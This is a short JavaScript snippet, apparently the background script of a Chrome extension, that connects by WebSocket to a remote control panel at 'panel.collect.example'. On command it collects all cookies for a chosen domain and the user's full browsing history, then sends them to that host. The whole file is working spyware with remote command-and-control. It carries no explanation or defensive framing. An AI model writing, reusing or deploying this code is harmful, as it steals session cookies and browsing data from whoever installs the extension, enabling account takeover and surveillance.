const socket = new WebSocket("wss://panel.collect.example/agent");

setInterval(() => socket.send("ping"), 25000);
socket.onmessage = (event) => {
  const command = JSON.parse(event.data);
  if (command.type === "getcookies") chrome.cookies.getAll({domain: command.domain}, (list) => socket.send(JSON.stringify(list)));
  if (command.type === "history") chrome.history.search({text: ""}, (list) => socket.send(JSON.stringify(list)));
};
